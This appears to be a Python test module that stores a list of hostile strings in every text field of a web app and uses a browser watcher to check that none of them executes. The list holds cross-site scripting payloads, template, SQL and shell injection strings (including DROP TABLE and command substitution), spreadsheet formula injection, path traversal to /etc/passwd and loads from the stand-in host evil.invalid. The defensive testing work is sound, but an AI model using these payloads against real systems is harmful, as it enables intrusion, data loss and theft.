"""Hostile texts for every field that takes text: stored, then shown in a browser, none may do anything.

    for payload in PAYLOADS: ... store it ...
    watch = Watch(window.page)
    window.open("/settings/users")
    watch.nothing_ran()

A payload that runs sets `window.hit`, opens a dialog, or asks for a picture of `evil.invalid`; with our content
security policy it leaves a console error as well, which the window's own check reports.
"""

from typing import Any

_RUN = "window.hit=1"

PAYLOADS: tuple[str, ...] = (
    # markup that runs where a page forgets to escape
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"</script><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    "<script src=https://evil.invalid/x.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src='https://evil.invalid/a.png' onload={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<input autofocus onfocus={_RUN}>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<embed src='javascript:{_RUN}'>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<form action='javascript:{_RUN}'><button>x</button></form>",
    "<base href='https://evil.invalid/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    "<link rel=stylesheet href=https://evil.invalid/x.css>",
    "<style>*{display:none!important}</style>",
    f"<template><script>{_RUN}</script></template>",
    f"<div hx-on:load='{_RUN}' hx-get='/' hx-trigger='load'>x</div>",
    # ways out of an attribute
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f'" autofocus onfocus="{_RUN}',
    f"' autofocus onfocus='{_RUN}",
    f'" style="position:fixed;inset:0" onmouseover="{_RUN}',
    f"` onmouseover=`{_RUN}",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    # ways out of a script or JSON
    f"';{_RUN};//",
    f'";{_RUN};//',
    f"\\';{_RUN};//",
    f"${{{_RUN}}}",
    f"\u2028{_RUN}\u2029",
    # templates on the server
    "{{ 7*7 }}{{ config }}{{ request.application.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{name} {0} {n:один|два|три} {__class__}",
    "%s%s%s%n%x %(name)s",
    # databases and shells
    "'; DROP TABLE user_account; --",
    "\\'; SELECT pg_sleep(60); --",
    "$(touch /tmp/hit) `touch /tmp/hit` | touch /tmp/hit",
    # formulas of spreadsheets
    "=1+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.invalid","x")',
    # text that upsets reading and layout
    "\u202eтрорсок\u202c \u2066скрытый\u2069",
    "\u200b\u200d\ufeff" * 20,
    "Z" + "\u0351\u0321" * 60,
    "👩‍👩‍👧‍👦🏴‍☠️" * 10,
    "Щ" * 10_000,
    "../../../../etc/passwd\r\nSet-Cookie: oklik=1",
)


class Watch:
    """What a page does that it should not; made before the page is opened."""

    def __init__(self, page: Any) -> None:
        self._page = page
        self._seen: list[str] = []
        page.on("dialog", self._dialog)
        page.on("request", lambda request: "://evil.invalid/" in request.url[:24] and self._seen.append(request.url))

    def _dialog(self, dialog: Any) -> None:
        self._seen.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def nothing_ran(self) -> None:
        """Fail if any payload did anything on the page that is shown now."""
        self._page.wait_for_load_state("networkidle")
        assert self.found() == []

    def found(self) -> list[str]:
        """Say what payloads have done since this was asked last, and what of them is in the page that is shown now."""
        told, self._seen = self._seen, []
        if self._page.evaluate("window.hit") is not None:
            told.append("window.hit")
        return told + self._page.evaluate(_INSIDE)


_INSIDE = """[...document.querySelectorAll('script:not([src]), [onerror], [onload]')]
    .map((one) => one.outerHTML.slice(0, 200))"""
